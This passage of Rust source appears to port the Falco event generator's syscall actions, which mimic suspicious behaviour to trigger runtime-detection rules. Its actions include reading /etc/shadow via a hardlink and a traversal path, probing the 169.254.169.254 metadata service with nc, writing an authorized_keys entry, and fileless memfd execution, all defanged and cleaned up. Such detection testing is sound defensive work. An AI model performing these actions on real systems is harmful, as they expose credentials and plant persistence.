//! The actions, one function each, in the order of upstream's `events/syscall/*.go` file names.
//! Each doc comment says what upstream does; where this differs it says how and why.

use std::fs::{self, File, OpenOptions};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpListener, ToSocketAddrs, UdpSocket};
use std::os::fd::AsFd;
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt, symlink};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitCode, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use nix::sched::CloneFlags;
use nix::sys::signal::Signal;
use nix::unistd::{Pid, Uid};

use crate::{Fail, Outcome, fail};

type Res = Result<Outcome, Fail>;

/// Where an action runs (upstream's `IsContainer` checks).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    /// host or container
    Either,
    /// skipped unless this tool is the container's PID 1
    Container,
    /// skipped when this tool is the container's PID 1
    Host,
}

impl Place {
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Self::Either => "either",
            Self::Container => "container",
            Self::Host => "host",
        }
    }
}

/// One action.
pub(crate) struct Action {
    pub(crate) name: &'static str,
    pub(crate) place: Place,
    run: fn() -> Res,
}

const fn a(name: &'static str, place: Place, run: fn() -> Res) -> Action {
    Action { name, place, run }
}

use Place::{Container as C, Either as E, Host as H};

/// Every action of upstream's `events/syscall` package.
pub(crate) static ACTIONS: &[Action] = &[
    a(
        "syscall.AddingSshKeysToAuthorizedKeys",
        E,
        adding_ssh_keys_to_authorized_keys,
    ),
    a(
        "syscall.ChangeNamespacePrivilegesViaUnshare",
        C,
        change_namespace_privileges_via_unshare,
    ),
    a("syscall.ChangeThreadNamespace", E, change_thread_namespace),
    a("syscall.ClearLogActivities", E, clear_log_activities),
    a(
        "syscall.ContactEC2InstanceMetadataServiceFromContainer",
        C,
        contact_ec2_instance_metadata,
    ),
    a(
        "syscall.ContainerDriftDetectedChmod",
        C,
        container_drift_detected_chmod,
    ),
    a(
        "syscall.ContainerDriftDetectedOpenCreate",
        C,
        container_drift_detected_open_create,
    ),
    a("syscall.CreateFilesBelowDev", E, create_files_below_dev),
    a(
        "syscall.CreateHardlinkOverSensitiveFiles",
        E,
        create_hardlink_over_sensitive_files,
    ),
    a(
        "syscall.CreateHiddenFilesOrDirectories",
        E,
        create_hidden_files_or_directories,
    ),
    a(
        "syscall.CreateSymlinkOverSensitiveFiles",
        E,
        create_symlink_over_sensitive_files,
    ),
    a(
        "syscall.DbProgramSpawnedProcess",
        E,
        db_program_spawned_process,
    ),
    a(
        "syscall.DebugfsLaunchedInPrivilegedContainer",
        C,
        debugfs_launched_in_privileged_container,
    ),
    a(
        "syscall.DecodingPayloadInContainer",
        C,
        decoding_payload_in_container,
    ),
    a(
        "syscall.DeleteOrRenameShellHistory",
        E,
        delete_or_rename_shell_history,
    ),
    a(
        "syscall.DetectCryptoMinersUsingTheStratumProtocol",
        E,
        detect_crypto_miners_stratum,
    ),
    a(
        "syscall.DetectReleaseAgentFileContainerEscapes",
        C,
        detect_release_agent_file,
    ),
    a(
        "syscall.DirectoryTraversalMonitoredFileRead",
        E,
        directory_traversal_monitored_file_read,
    ),
    a(
        "syscall.DisallowedSSHConnectionNonStandardPort",
        E,
        disallowed_ssh_connection,
    ),
    a(
        "syscall.DropAndExecuteNewBinaryInContainer",
        C,
        drop_and_execute_new_binary,
    ),
    a("syscall.ExecutionFromDevShm", E, execution_from_dev_shm),
    a(
        "syscall.FilelessExecutionViaMemfdCreate",
        E,
        fileless_execution_via_memfd_create,
    ),
    a("syscall.FindAwsCredentials", E, find_aws_credentials),
    a(
        "syscall.InterpretedProcsInboundNetworkActivity",
        E,
        interpreted_procs_inbound,
    ),
    a(
        "syscall.InterpretedProcsOutboundNetworkActivity",
        E,
        interpreted_procs_outbound,
    ),
    a(
        "syscall.JavaProcessClassFileDownload",
        E,
        java_process_class_file_download,
    ),
    a(
        "syscall.KubernetesClientToolLaunchedInContainer",
        C,
        kubernetes_client_tool,
    ),
    a(
        "syscall.LaunchIngressRemoteFileCopyToolsInContainer",
        C,
        launch_ingress_remote_file_copy,
    ),
    a(
        "syscall.LaunchPackageManagementProcessInContainer",
        C,
        launch_package_management,
    ),
    a(
        "syscall.LaunchRemoteFileCopyToolsInContainer",
        C,
        launch_remote_file_copy,
    ),
    a(
        "syscall.LaunchSuspiciousNetworkToolInContainer",
        C,
        launch_network_tool_in_container,
    ),
    a(
        "syscall.LaunchSuspiciousNetworkToolOnHost",
        H,
        launch_network_tool_on_host,
    ),
    a("syscall.MkdirBinaryDirs", E, mkdir_binary_dirs),
    a("syscall.ModifyBinaryDirs", E, modify_binary_dirs),
    a(
        "syscall.ModifyContainerEntrypoint",
        C,
        modify_container_entrypoint,
    ),
    a(
        "syscall.ModifyShellConfigurationFile",
        E,
        modify_shell_configuration_file,
    ),
    a(
        "syscall.MountLaunchedInPrivilegedContainer",
        C,
        mount_launched_in_privileged_container,
    ),
    a(
        "syscall.NetcatRemoteCodeExecutionInContainer",
        C,
        netcat_remote_code_execution,
    ),
    a("syscall.NonSudoSetuid", E, non_sudo_setuid),
    a(
        "syscall.PacketSocketCreatedInContainer",
        C,
        packet_socket_created_in_container,
    ),
    a(
        "syscall.PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034",
        E,
        polkit_cve_2021_4034,
    ),
    a(
        "syscall.PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse",
        E,
        glibc_tunables,
    ),
    a(
        "syscall.ProgramRunWithDisallowedHttpProxyEnv",
        E,
        program_run_with_http_proxy_env,
    ),
    a(
        "syscall.PtraceAntiDebugAttempt",
        E,
        ptrace_anti_debug_attempt,
    ),
    a(
        "syscall.PtraceAttachedToProcess",
        E,
        ptrace_attached_to_process,
    ),
    a(
        "syscall.ReadEnvironmentVariableFromProcFiles",
        C,
        read_environment_from_proc_files,
    ),
    a(
        "syscall.ReadSensitiveFileTrustedAfterStartup",
        E,
        read_sensitive_file_trusted_after_startup,
    ),
    a(
        "syscall.ReadSensitiveFileUntrusted",
        E,
        read_sensitive_file_untrusted,
    ),
    a(
        "syscall.ReadShellConfigurationFile",
        E,
        read_shell_configuration_file,
    ),
    a("syscall.ReadSshInformation", E, read_ssh_information),
    a(
        "syscall.RemoveBulkDataFromDisk",
        E,
        remove_bulk_data_from_disk,
    ),
    a("syscall.RunShellUntrusted", E, run_shell_untrusted),
    a("syscall.ScheduleCronJobs", E, schedule_cron_jobs),
    a(
        "syscall.SearchPrivateKeysOrPasswords",
        E,
        search_private_keys_or_passwords,
    ),
    a("syscall.SetSetuidOrSetgidBit", E, set_setuid_or_setgid_bit),
    a(
        "syscall.SudoPotentialPrivilegeEscalation",
        E,
        sudo_potential_privilege_escalation,
    ),
    a(
        "syscall.SystemProcsNetworkActivity",
        E,
        system_procs_network_activity,
    ),
    a("syscall.SystemUserInteractive", E, system_user_interactive),
    a("syscall.UnexpectedUDPTraffic", E, unexpected_udp_traffic),
    a(
        "syscall.UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
        E,
        userfaultfd,
    ),
    a("syscall.UserMgmtBinaries", H, user_mgmt_binaries),
    a("syscall.WriteBelowBinaryDir", E, write_below_binary_dir),
    a("syscall.WriteBelowEtc", E, write_below_etc),
    a(
        "syscall.WriteBelowMonitoredDir",
        E,
        write_below_monitored_dir,
    ),
    a("syscall.WriteBelowRoot", E, write_below_root),
    a("syscall.WriteBelowRpmDatabase", E, write_below_rpm_database),
];

/// Ours, not upstream's: actions for two stable rules upstream has none for (hidden from `list`,
/// printed by `extras`).
pub(crate) static EXTRAS: &[Action] = &[
    a(
        "extra.RedirectStdoutStdinToNetworkConnectionInContainer",
        C,
        redirect_stdout_to_network_connection,
    ),
    a(
        "extra.LinuxKernelModuleInjection",
        C,
        linux_kernel_module_injection,
    ),
];

/// What a process re-executed under another name runs (upstream's `helper.*` actions, same
/// names, hidden from `list`).
static HELPERS: &[Action] = &[
    a("helper.DoNothing", E, || Ok(Outcome::Done)),
    a("helper.RunShell", E, helper_run_shell),
    a("helper.ExecLs", E, helper_exec_ls),
    a("helper.InboundConnection", E, helper_inbound_connection),
    a("helper.OutboundConnection", E, helper_outbound_connection),
    a(
        "helper.CombinedServerClient",
        E,
        helper_combined_server_client,
    ),
    a("helper.NetworkActivity", E, helper_network_activity),
];

/// The action or helper named `name`.
pub(crate) fn find(name: &str) -> Option<&'static Action> {
    ACTIONS
        .iter()
        .chain(EXTRAS)
        .chain(HELPERS)
        .find(|a| a.name == name)
}

/// Runs `action` after its place check.
pub(crate) fn perform(action: &Action) -> Res {
    match (action.place, in_container()) {
        (Place::Container, false) => {
            return Ok(Outcome::Skipped(
                "runs only in a container (rampart-eventgen must be its PID 1)".into(),
            ));
        }
        (Place::Host, true) => {
            return Ok(Outcome::Skipped(
                "runs only on the host, not in a container".into(),
            ));
        }
        _ => {}
    }
    (action.run)()
}

/// A container's init: reaps every child it inherits, never exits on its own.
pub(crate) fn idle() -> ExitCode {
    loop {
        match nix::sys::wait::wait() {
            Ok(_) => {}
            Err(_) => std::thread::sleep(Duration::from_millis(200)),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// shared pieces

/// Upstream's test: in a container when PID 1's `argv[0]` is this tool (compared by file name,
/// so `/usr/local/bin/rampart-eventgen` and `rampart-eventgen` agree).
fn in_container() -> bool {
    let Ok(cmdline) = fs::read("/proc/1/cmdline") else {
        return false;
    };
    let argv0 = cmdline.split(|b| *b == 0).next().unwrap_or_default();
    Path::new(std::ffi::OsStr::new(&*String::from_utf8_lossy(argv0)))
        .file_name()
        .is_some_and(|n| n == "rampart-eventgen")
}

const CAP_DAC_OVERRIDE: u32 = 1;
const CAP_SYS_MODULE: u32 = 16;
const CAP_SYS_ADMIN: u32 = 21;

/// The effective capability set, from `/proc/self/status` (upstream decodes it with `capsh`).
fn cap_eff() -> Result<u64, Fail> {
    let status = fs::read_to_string("/proc/self/status")?;
    let hex = status
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:"))
        .map(str::trim)
        .ok_or_else(|| Fail("no CapEff in /proc/self/status".into()))?;
    u64::from_str_radix(hex, 16).map_err(|e| Fail(format!("CapEff {hex:?}: {e}")))
}

/// CapEff as upstream's capability checks read it: `sh -c "cat /proc/self/status | grep CapEff
/// | awk '{print $2}'"` (the shell's set is the caller's: no setuid, no file capabilities in
/// between); upstream then decodes it with `capsh --decode`, here in Rust.
fn cap_eff_via_shell() -> Result<u64, Fail> {
    if look_path("sh").is_none() {
        return cap_eff();
    }
    let out = Command::new("sh")
        .args([
            "-c",
            "cat /proc/self/status | grep CapEff | awk '{print $2}'",
        ])
        .stdin(Stdio::null())
        .output()?;
    let hex = String::from_utf8_lossy(&out.stdout).trim().to_string();
    u64::from_str_radix(&hex, 16).map_err(|e| Fail(format!("CapEff {hex:?}: {e}")))
}

fn has_cap(set: u64, cap: u32) -> bool {
    set & (1u64 << cap) != 0
}

fn is_root() -> bool {
    Uid::effective().is_root()
}

fn rand_suffix() -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.subsec_nanos());
    let mut n = u64::from(nanos) ^ (u64::from(std::process::id()) << 32);
    let alphabet = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..6)
        .map(|_| {
            let c = alphabet.get((n % 36) as usize).copied().unwrap_or(b'x');
            n /= 36;
            c as char
        })
        .collect()
}

/// `os.MkdirTemp(dir, prefix)`: a new directory `dir/prefix<random>`, mode 0700.
fn mkdir_temp(dir: &Path, prefix: &str) -> std::io::Result<PathBuf> {
    loop {
        let p = dir.join(format!("{prefix}{}", rand_suffix()));
        match fs::DirBuilder::new().mode(0o700).create(&p) {
            Err(e) if e.kind() == ErrorKind::AlreadyExists => continue,
            r => return r.map(|()| p),
        }
    }
}

/// `os.CreateTemp(dir, prefix)`: a new file `dir/prefix<random>` (O_RDWR|O_CREAT|O_EXCL, 0600).
fn create_temp(dir: &Path, prefix: &str) -> std::io::Result<(File, PathBuf)> {
    loop {
        let p = dir.join(format!("{prefix}{}", rand_suffix()));
        match OpenOptions::new()
            .read(true)
            .write(true)
            .create_new(true)
            .mode(0o600)
            .open(&p)
        {
            Err(e) if e.kind() == ErrorKind::AlreadyExists => continue,
            r => return r.map(|f| (f, p)),
        }
    }
}

use std::os::unix::fs::DirBuilderExt;

/// The temporary directory of an action: `$TMPDIR/falco-event-generator-syscall-NAME-<random>`.
fn action_dir(name: &str) -> std::io::Result<PathBuf> {
    mkdir_temp(
        &std::env::temp_dir(),
        &format!("falco-event-generator-syscall-{name}-"),
    )
}

/// `exec.LookPath`: the first executable `prog` in `PATH` (or `prog` itself when it has a `/`).
fn look_path(prog: &str) -> Option<PathBuf> {
    if prog.contains('/') {
        return Path::new(prog).is_file().then(|| PathBuf::from(prog));
    }
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|d| d.join(prog))
        .find(|p| fs::metadata(p).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0))
}

/// `exec.Command(prog)`: the program found in PATH, `argv[0]` the name as given (what
/// `proc.exe` shows); skipped when it is missing.
fn need(prog: &str) -> Result<Command, Outcome> {
    let path =
        look_path(prog).ok_or_else(|| Outcome::Skipped(format!("{prog} not found in PATH")))?;
    let mut cmd = Command::new(path);
    cmd.arg0(prog);
    Ok(cmd)
}

macro_rules! need {
    ($prog:expr) => {
        match need($prog) {
            Ok(p) => p,
            Err(skip) => return Ok(skip),
        }
    };
}

/// Waits for `child` at most `limit`, then kills it (upstream's `exec.CommandContext` with a
/// timeout). `None` when it had to be killed.
fn wait_limit(child: &mut Child, limit: Duration) -> Result<Option<ExitStatus>, Fail> {
    let start = Instant::now();
    loop {
        if let Some(st) = child.try_wait()? {
            return Ok(Some(st));
        }
        if start.elapsed() >= limit {
            let _ = child.kill();
            child.wait()?;
            return Ok(None);
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// Runs `cmd` (standard input from /dev/null) to completion or for at most `limit`.
fn run_limit(cmd: &mut Command, limit: Duration) -> Result<Option<ExitStatus>, Fail> {
    let mut child = cmd
        .stdin(Stdio::null())
        .spawn()
        .map_err(|e| Fail(format!("cannot run {:?}: {e}", cmd.get_program())))?;
    wait_limit(&mut child, limit)
}

/// Runs `cmd` to completion.
fn run(cmd: &mut Command) -> Result<ExitStatus, Fail> {
    cmd.stdin(Stdio::null())
        .status()
        .map_err(|e| Fail(format!("cannot run {:?}: {e}", cmd.get_program())))
}

/// Runs `cmd`; a non-zero exit is a failure unless its code is in `accepted`.
fn run_accepting(cmd: &mut Command, accepted: &[i32]) -> Res {
    let st = run(cmd)?;
    if st.success() || st.code().is_some_and(|c| accepted.contains(&c)) {
        Ok(Outcome::Done)
    } else {
        fail(format!("{:?} exited with {st}", cmd.get_program()))
    }
}

/// The uid and gid of `user` in /etc/passwd.
fn lookup_user(user: &str) -> Result<(u32, u32), Fail> {
    let passwd = fs::read_to_string("/etc/passwd")?;
    passwd
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            match f.as_slice() {
                [name, _, uid, gid, ..] if *name == user => {
                    Some((uid.parse().ok()?, gid.parse().ok()?))
                }
                _ => None,
            }
        })
        .ok_or_else(|| Fail(format!("no user {user} in /etc/passwd")))
}

/// This executable's path (upstream's `os.Executable`).
fn self_exe() -> Result<PathBuf, Fail> {
    Ok(fs::read_link("/proc/self/exe")?)
}

/// Upstream's `Spawned()`: started under another name than the executable's (through a symlink).
fn spawned() -> bool {
    let argv0 = std::env::args_os().next().unwrap_or_default();
    let called = Path::new(&argv0).file_name().map(|n| n.to_os_string());
    let exe = fs::read_link("/proc/self/exe")
        .ok()
        .and_then(|p| p.file_name().map(|n| n.to_os_string()));
    called.is_some() && called != exe
}

/// Upstream's `SpawnAsWithSymlink`: a symlink `alias` to this binary in a new temporary
/// directory, executed as `alias run ^action$ extra...`, waited for.
fn spawn_as_symlink(alias: &str, action: &str, extra: &[&str]) -> Res {
    let dir = mkdir_temp(&std::env::temp_dir(), "falco-event-generator")?;
    let link = dir.join(alias);
    let result = symlink(self_exe()?, &link)
        .map_err(Fail::from)
        .and_then(|()| {
            run(Command::new(&link)
                .args(["run", &format!("^{action}$")])
                .args(extra))
        });
    let _ = fs::remove_dir_all(&dir);
    helper_status(alias, result?)
}

/// A copy of this binary named `alias` (0755) in a new temporary directory, executed as
/// `alias run ^helper$`, waited for.
fn spawn_as_copy(alias: &str, helper: &str) -> Res {
    let dir = mkdir_temp(&std::env::temp_dir(), "falco-event-generator")?;
    let copy = dir.join(alias);
    let result = fs::copy(self_exe()?, &copy)
        .and_then(|_| fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)))
        .map_err(Fail::from)
        .and_then(|()| run(Command::new(&copy).args(["run", &format!("^{helper}$")])));
    let _ = fs::remove_dir_all(&dir);
    helper_status(alias, result?)
}

fn helper_status(alias: &str, st: ExitStatus) -> Res {
    match st.code() {
        Some(0) => Ok(Outcome::Done),
        Some(3) => Ok(Outcome::Skipped(format!("{alias}: helper skipped"))),
        _ => fail(format!("{alias} exited with {st}")),
    }
}

/// Whether an error is a permission refusal (the attempt is the signal).
fn denied(e: &std::io::Error) -> bool {
    e.kind() == ErrorKind::PermissionDenied
        || matches!(
            e.raw_os_error(),
            Some(libc::EPERM) | Some(libc::EACCES) | Some(libc::EROFS)
        )
}

/// Creates a temporary file in `dir` (creating `dir` first) and removes it.
fn create_temp_in(dir: &str, prefix: &str) -> std::io::Result<()> {
    fs::create_dir_all(dir)?;
    let (f, p) = create_temp(Path::new(dir), prefix)?;
    drop(f);
    fs::remove_file(p)
}

// ---------------------------------------------------------------------------------------------
// the actions

/// Writes a placeholder public key into `/home/falco-event-generator-syscall-SshDirectory-*/.ssh/
/// authorized_keys` (O_CREAT|O_WRONLY|O_TRUNC, 0600), then removes the directory.
fn adding_ssh_keys_to_authorized_keys() -> Res {
    let dir = mkdir_temp(
        Path::new("/home"),
        "falco-event-generator-syscall-SshDirectory-",
    )?;
    let result = (|| -> std::io::Result<()> {
        fs::create_dir(dir.join(".ssh"))?;
        let mut f = OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .mode(0o600)
            .open(dir.join(".ssh/authorized_keys"))?;
        f.write_all(b"ssh-rsa <ssh_public_key>\n")
    })();
    let _ = fs::remove_dir_all(&dir);
    result?;
    Ok(Outcome::Done)
}

/// Reads CapEff through `sh -c "cat /proc/self/status | grep CapEff | awk ..."` as upstream does
/// (decoded here, not with `capsh`); skipped with CAP_SYS_ADMIN; else runs `unshare` with no
/// arguments (it calls unshare(0), then starts a shell that finds its standard input at EOF).
fn change_namespace_privileges_via_unshare() -> Res {
    need!("sh");
    let mut unshare = need!("unshare");
    let caps = cap_eff_via_shell()?;
    if has_cap(caps, CAP_SYS_ADMIN) {
        return Ok(Outcome::Skipped(
            "CAP_SYS_ADMIN is effective (privileged container)".into(),
        ));
    }
    run_limit(&mut unshare, Duration::from_secs(2))?;
    Ok(Outcome::Done)
}

/// setns(0, 0): expected to fail (fd 0 is no namespace); the attempt is the signal. In a
/// container, skipped without CAP_SYS_ADMIN.
fn change_thread_namespace() -> Res {
    if in_container() && !has_cap(cap_eff_via_shell()?, CAP_SYS_ADMIN) {
        return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
    }
    let stdin = std::io::stdin();
    let _ = nix::sched::setns(stdin.as_fd(), CloneFlags::empty());
    Ok(Outcome::Done)
}

/// Opens `<tmpdir>/syslog` with O_CREAT|O_TRUNC|O_WRONLY, then removes the directory.
fn clear_log_activities() -> Res {
    let dir = action_dir("ClearLogActivities")?;
    let r = OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(dir.join("syslog"));
    let _ = fs::remove_dir_all(&dir);
    r?;
    Ok(Outcome::Done)
}

/// `nc 169.254.169.254 80` with a 1 s limit; its failure is ignored.
fn contact_ec2_instance_metadata() -> Res {
    let mut nc = need!("nc");
    run_limit(nc.args(["169.254.169.254", "80"]), Duration::from_secs(1))?;
    Ok(Outcome::Done)
}

/// An empty file in $TMPDIR made executable with chmod 0755, then removed.
fn container_drift_detected_chmod() -> Res {
    let (f, p) = create_temp(
        &std::env::temp_dir(),
        "falco-event-generator-syscall-ContainerDriftDetectedChmod-",
    )?;
    drop(f);
    let r = fs::set_permissions(&p, fs::Permissions::from_mode(0o755));
    let _ = fs::remove_file(&p);
    r?;
    Ok(Outcome::Done)
}

/// A new file in $TMPDIR created executable: open(O_CREAT, 0755), then removed.
fn container_drift_detected_open_create() -> Res {
    let p = std::env::temp_dir().join(format!(
        "falco-event-generator-syscall-ContainerDriftDetectedOpenCreate-{}",
        rand_suffix()
    ));
    let f = OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o755)
        .open(&p)?;
    drop(f);
    fs::remove_file(&p)?;
    Ok(Outcome::Done)
}

/// A temporary file directly under /dev, removed; permission denied is ignored.
fn create_files_below_dev() -> Res {
    match create_temp_in("/dev", "falco-event-generator-syscall-CreateFilesBelowDev-") {
        Err(e) if !denied(&e) => Err(e.into()),
        _ => Ok(Outcome::Done),
    }
}

/// `ln -v /etc/shadow <tmpdir>/shadow_link`, then reads the file through the link.
fn create_hardlink_over_sensitive_files() -> Res {
    let mut ln = need!("ln");
    let dir = action_dir("CreateHardlinkOverSensitiveFiles")?;
    let link = dir.join("shadow_link");
    let r = run_accepting(ln.arg("-v").arg("/etc/shadow").arg(&link), &[]).and_then(|o| {
        fs::read(&link)?;
        Ok(o)
    });
    let _ = fs::remove_dir_all(&dir);
    r
}

/// mkdir of `$TMPDIR/.falco-event-generator-syscall-CreateHiddenFilesOrDirectories-*`, removed.
fn create_hidden_files_or_directories() -> Res {
    let d = mkdir_temp(
        &std::env::temp_dir(),
        ".falco-event-generator-syscall-CreateHiddenFilesOrDirectories-",
    )?;
    fs::remove_dir(d)?;
    Ok(Outcome::Done)
}

/// `ln -s /etc <tmpdir>/etc_link`, then lists the directory through the link.
fn create_symlink_over_sensitive_files() -> Res {
    let mut ln = need!("ln");
    let dir = action_dir("CreateSymlinkOverSensitiveFiles")?;
    let link = dir.join("etc_link");
    let r = run_accepting(ln.arg("-s").arg("/etc").arg(&link), &[]).and_then(|o| {
        fs::read_dir(&link)?.count();
        Ok(o)
    });
    let _ = fs::remove_dir_all(&dir);
    r
}

/// A symlink `mysqld` to this binary, executed; it executes /bin/ls.
fn db_program_spawned_process() -> Res {
    spawn_as_symlink("mysqld", "helper.ExecLs", &[])
}

fn helper_exec_ls() -> Res {
    run_accepting(Command::new("/bin/ls").stdout(Stdio::null()), &[])
}

/// With CAP_SYS_ADMIN, `debugfs -V` in a child that enters new mount and user namespaces before
/// the exec (upstream clones with CLONE_NEWNS|CLONE_NEWUSER; here the forked child calls
/// unshare with the same flags, then execs).
fn debugfs_launched_in_privileged_container() -> Res {
    if !has_cap(cap_eff_via_shell()?, CAP_SYS_ADMIN) {
        return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
    }
    let debugfs = need!("debugfs");
    let mut cmd = debugfs;
    cmd.arg("-V");
    in_new_namespaces(&mut cmd);
    run(&mut cmd)?;
    Ok(Outcome::Done)
}

fn in_new_namespaces(cmd: &mut Command) {
    #[expect(
        unsafe_code,
        reason = "pre_exec: the forked child enters new namespaces"
    )]
    // SAFETY: the closure runs in the forked child before exec; it only makes the unshare
    // system call (async-signal-safe, no allocation, no lock).
    unsafe {
        cmd.pre_exec(|| {
            nix::sched::unshare(CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWUSER)
                .map_err(std::io::Error::from)
        });
    }
}

/// `echo ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I= | base64 -d` executed directly (no shell): the
/// command line carries the base64 string and `base64 -d`; nothing is decoded.
fn decoding_payload_in_container() -> Res {
    let mut echo = need!("echo");
    run_accepting(
        echo.args(["ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I=", "|", "base64", "-d"])
            .stdout(Stdio::null()),
        &[],
    )
}

/// An empty `ash_history` (0600) in a temporary directory, then unlinked.
fn delete_or_rename_shell_history() -> Res {
    let dir = action_dir("DeleteOrRenameShellHistory")?;
    let p = dir.join("ash_history");
    let r = OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(&p)
        .and_then(|f| {
            drop(f);
            fs::remove_file(&p)
        });
    let _ = fs::remove_dir_all(&dir);
    r?;
    Ok(Outcome::Done)
}

/// `echo "-o stratum+tcp" "-u user" "-p pass"`: the Stratum URL scheme on a command line.
fn detect_crypto_miners_stratum() -> Res {
    let mut echo = need!("echo");
    run_accepting(
        echo.args(["-o stratum+tcp", "-u user", "-p pass"])
            .stdout(Stdio::null()),
        &[],
    )
}

/// With CAP_SYS_ADMIN and root (or CAP_DAC_OVERRIDE): `sh -c "echo 'hello world' >
/// release_agent"` in the current directory; the file is removed afterwards.
fn detect_release_agent_file() -> Res {
    let caps = cap_eff_via_shell()?;
    if !(is_root() || has_cap(caps, CAP_DAC_OVERRIDE)) {
        return Ok(Outcome::Skipped("needs root or CAP_DAC_OVERRIDE".into()));
    }
    if !has_cap(caps, CAP_SYS_ADMIN) {
        return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
    }
    need!("sh");
    let r = run_accepting(
        Command::new("sh").args(["-c", "echo 'hello world' > release_agent"]),
        &[],
    );
    let _ = fs::remove_file("release_agent");
    r
}

/// open("/etc/../etc/../etc/shadow", O_RDONLY), closed.
fn directory_traversal_monitored_file_read() -> Res {
    File::open("/etc/../etc/../etc/shadow")?;
    Ok(Outcome::Done)
}

/// `ssh user@example.com -p 443` (5 s limit upstream); its result is ignored.
fn disallowed_ssh_connection() -> Res {
    let mut ssh = need!("ssh");
    run_limit(
        ssh.args(["user@example.com", "-p", "443"]),
        Duration::from_secs(5),
    )?;
    Ok(Outcome::Done)
}

/// Copies the `ls` binary found in PATH to `/bin/falco-event-generator-syscall-
/// DropAndExecuteNewBinaryInContainer-<random>` (0755), executes it, removes it. The exec is the
/// signal: its exit status is not checked (busybox's `ls` is busybox, which answers a name it
/// does not know with exit 127).
fn drop_and_execute_new_binary() -> Res {
    let Some(ls) = look_path("ls") else {
        return Ok(Outcome::Skipped("ls not found in PATH".into()));
    };
    let bytes = fs::read(&ls)?;
    let p = PathBuf::from(format!(
        "/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-{}",
        rand_suffix()
    ));
    let r = (|| -> Result<(), Fail> {
        let mut f = OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o755)
            .open(&p)?;
        f.write_all(&bytes)?;
        drop(f);
        run(Command::new(&p).stdout(Stdio::null()).stderr(Stdio::null()))?;
        Ok(())
    })();
    let _ = fs::remove_file(&p);
    r.map(|()| Outcome::Done)
}

/// A shell script written to `/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-
/// <random>.sh` (0755) and run with `sh -c <file>`; exit 126 (noexec mount) is accepted.
fn execution_from_dev_shm() -> Res {
    need!("sh");
    fs::create_dir_all("/dev/shm")?;
    let p = PathBuf::from(format!(
        "/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-{}.sh",
        rand_suffix()
    ));
    let r = (|| -> Res {
        let mut f = OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o755)
            .open(&p)?;
        f.write_all(b"#!/bin/sh\n\necho \"hello world\"\n")?;
        drop(f);
        run_accepting(
            Command::new("sh").arg("-c").arg(&p).stdout(Stdio::null()),
            &[126],
        )
    })();
    let _ = fs::remove_file(&p);
    r
}

/// Reads this executable, memfd_create("program"), writes it there and executes
/// `/proc/self/fd/<memfd> run helper.DoNothing`.
fn fileless_execution_via_memfd_create() -> Res {
    let bytes = fs::read("/proc/self/exe")?;
    let fd = nix::sys::memfd::memfd_create(c"program", nix::sys::memfd::MFdFlags::empty())?;
    let raw = std::os::fd::AsRawFd::as_raw_fd(&fd);
    let mut f = File::from(fd);
    f.write_all(&bytes)?;
    let st = run(Command::new(format!("/proc/self/fd/{raw}")).args(["run", "helper.DoNothing"]))?;
    drop(f);
    helper_status("memfd program", st)
}

/// `find $TMPDIR -maxdepth 1 -iname .aws/credentials` (finds nothing).
fn find_aws_credentials() -> Res {
    let mut find = need!("find");
    run_accepting(
        find.arg(std::env::temp_dir())
            .args(["-maxdepth", "1", "-iname", ".aws/credentials"]),
        &[],
    )
}

/// A copy of this binary named `lua` listens on a non-loopback IPv4 address of the host
/// (bind+listen, ephemeral port), then closes.
fn interpreted_procs_inbound() -> Res {
    spawn_as_copy("lua", "helper.InboundConnection")
}

fn helper_inbound_connection() -> Res {
    let ip = nix::ifaddrs::getifaddrs()?
        .filter_map(|i| i.address.and_then(|a| a.as_sockaddr_in().map(|s| s.ip())))
        .find(|ip| !ip.is_loopback());
    let Some(ip) = ip else {
        return fail("no non-loopback IPv4 address");
    };
    // one listener, as actions.json describes (an indexed upstream version first probed a free
    // port with a second listener, which makes the rule fire twice)
    drop(TcpListener::bind(SocketAddr::from((ip, 0)))?);
    Ok(Outcome::Done)
}

/// A copy of this binary named `lua` connects a UDP socket to example.net:53, then closes.
fn interpreted_procs_outbound() -> Res {
    spawn_as_copy("lua", "helper.OutboundConnection")
}

fn helper_outbound_connection() -> Res {
    let addr = "example.net:53"
        .to_socket_addrs()?
        .next()
        .ok_or_else(|| Fail("no address for example.net".into()))?;
    let s = UdpSocket::bind(SocketAddr::from(([0, 0, 0, 0], 0)))?;
    s.connect(addr)?;
    Ok(Outcome::Done)
}

/// A copy of this binary named `java`: a UDP server on localhost:1234, a client connected to it
